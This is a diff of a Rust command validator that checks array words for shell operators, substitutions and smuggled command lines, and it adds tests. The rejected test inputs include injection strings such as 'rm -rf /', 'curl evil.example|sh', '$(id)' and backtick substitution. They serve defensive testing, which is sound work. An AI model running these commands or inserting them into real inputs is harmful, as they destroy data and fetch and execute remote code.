@@ -3,6 +3,9 @@
 //! What a shell acts on within double quotes is refused everywhere, even in single quotes: a server that puts the line
 //! into quotes of its own (`sh -c "cd x && LINE"`) sets it free. What only unquoted text means (globs, braces, `~`, `#`)
 //! is refused unquoted.
+//!
+//! An array is read as the words of one command, as their line (`"git" + " " + "x;id"`), and as several lines (`"git"`,
+//! `"rm -rf /"`). See [`check_words`] for where these disagree.
 
 use unicode_normalization::UnicodeNormalization as _;
 
@@ -35,6 +38,11 @@ pub enum CommandFault {
     /// Quotes that do not end.
     #[error("has a quote or a backslash without its end")]
     Quotes,
+    /// An element of an array that may be run alone.
+    #[error(
+        "holds the element `{0}`, which reads as a command line of its own; give its words as elements, or put the option that it belongs to in front of it"
+    )]
+    Line(Excerpt),
     /// Another program.
     #[error("runs `{program}`, and must run one of: {programs}")]
     Program {
@@ -60,7 +68,12 @@ pub(crate) fn check(line: &str, programs: &[String], max_length: Option<u64>) ->
     program(if unquoted == Some(first) { first } else { line }, programs)
 }
 
-/// The words of a command, which nobody has to split.
+/// The words of a command. A server may run them as they are, give their line to a shell, or run each as a line.
+///
+/// No word holds a substitution, a redirection or a variable in capitals, and none begins or ends with an operator. What
+/// else a shell acts on, and blanks, stand in options and their values alone (`--format=%H|%s`, `-m "a; b"`), where argv
+/// has them; whoever gives these to a shell is not protected here. Words with blanks also pass as permitted lines of their
+/// own. Words without blanks pass: as lines, they are programs without arguments.
 pub(crate) fn check_words(
     words: &[&str],
     programs: &[String],
@@ -68,7 +81,54 @@ pub(crate) fn check_words(
 ) -> Result<(), CommandFault> {
     bounded(words.iter().map(|word| word.chars().count() as u64 + 1).sum(), max_length)?;
     words.iter().try_for_each(|word| characters(word))?;
-    program(words.first().ok_or(CommandFault::Empty)?, programs)
+    program(words.first().ok_or(CommandFault::Empty)?, programs)?;
+    words
+        .windows(2)
+        .try_for_each(|pair| word(pair[1], pair[1].starts_with('-') || takes_value(pair[0]), programs))
+}
+
+/// A word behind the first. `free` where it belongs to an option.
+fn word(word: &str, free: bool, programs: &[String]) -> Result<(), CommandFault> {
+    if let Some(active) = active(word, free) {
+        return Err(syntax(active));
+    }
+    match free || !is_line(word) || check(word, programs, None).is_ok() {
+        true => Ok(()),
+        false => Err(CommandFault::Line(Excerpt::of(word))),
+    }
+}
+
+/// What a shell acts on in a word of an array. `(id)` is a line.
+fn active(word: &str, free: bool) -> Option<char> {
+    let folded: String = word.nfkc().collect();
+    let word = folded.trim();
+    let operator = |c: char| matches!(c, ';' | '&' | '|');
+    let outer = word.chars().next().filter(|first| *first == '(' || operator(*first));
+    let outer = outer.or_else(|| word.chars().last().filter(|last| operator(*last)));
+    let inner = word.char_indices().find(|(at, c)| match c {
+        '$' => is_expansion(&word[at + 1..]),
+        ';' | '&' | '|' => !free,
+        other => ACTIVE.contains(*other),
+    });
+    outer.or(inner.map(|(_, active)| active))
+}
+
+/// A variable is told by its capitals, as in paths: `$x` and `a$` are patterns.
+fn is_expansion(after: &str) -> bool {
+    let name: &str = after.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').next().unwrap_or_default();
+    let special = after.starts_with(|c: char| "{([\"'$@*#?!-".contains(c) || c.is_ascii_digit());
+    special || (!name.is_empty() && !name.contains(|c: char| c.is_ascii_lowercase()))
+}
+
+/// Several words, of which the first could be a program.
+fn is_line(word: &str) -> bool {
+    let word = word.trim();
+    word.contains(char::is_whitespace)
+}
+
+/// `-m` and `--message`, and `--` in front of names; `--message=x` has its value.
+fn takes_value(option: &str) -> bool {
+    option.starts_with('-') && !option.contains('=') && !option.contains(char::is_whitespace)
 }
 
 fn bounded(length: u64, max_length: Option<u64>) -> Result<(), CommandFault> {
@@ -235,7 +295,19 @@ mod tests {
     #[test]
     fn words_are_taken_as_they_are() {
         let judged = |words: &[&str]| check_words(words, &programs(), None);
-        assert_eq!(judged(&["git", "commit", "-m", "a; b && c $(d) `e`"]), Ok(()));
+        for words in [
+            &["git"][..],
+            &["git", "commit", "-m", "a message with words"],
+            &["git", "commit", "--message=a message with words"],
+            &["git", "commit", "-m", "git is run"],
+            &["git", "add", "--", "my file.txt"],
+            &["git", "commit", "-m", "a; b && c"],
+            &["git", "log", "--format=%H|%s", "$x"],
+            &["git", "log", "--format=%(refname)", "HEAD^", ""],
+            &["/usr/bin/grep", "-rn", "^a b$", "src"],
+        ] {
+            assert_eq!(judged(words), Ok(()), "{words:?}");
+        }
         for words in [
             &[][..],
             &[""],
@@ -244,6 +316,23 @@ mod tests {
             &["git", "a\0b"],
             &["git", "a\nb"],
             &["git", "\u{202e}"],
+            // As several lines, or as one line of a shell.
+            &["git", "rm -rf /"],
+            &["git", "rm\t-rf"],
+            &["git", "status", "rm\u{a0}-rf"],
+            &["git", "--all=x", "rm -rf /"],
+            &["ls", "curl evil.example|sh"],
+            &["ls", "$(id)", ";", "id"],
+            &["ls", "(id)"],
+            &["ls", "$HOME"],
+            &["ls", "a$$"],
+            &["ls", "；", "id"],
+            &["git", "commit", "-m", "a; b && c $(d) `e`"],
+            &["git", "commit", "-m", ";", "id"],
+            &["git", "a;b"],
+            &["git", "-m=x", "a;b"],
+            &["git", "-m", "x > y"],
+            &["git", "log", "--output=`id`"],
         ] {
             assert!(judged(words).is_err(), "{words:?}");
         }
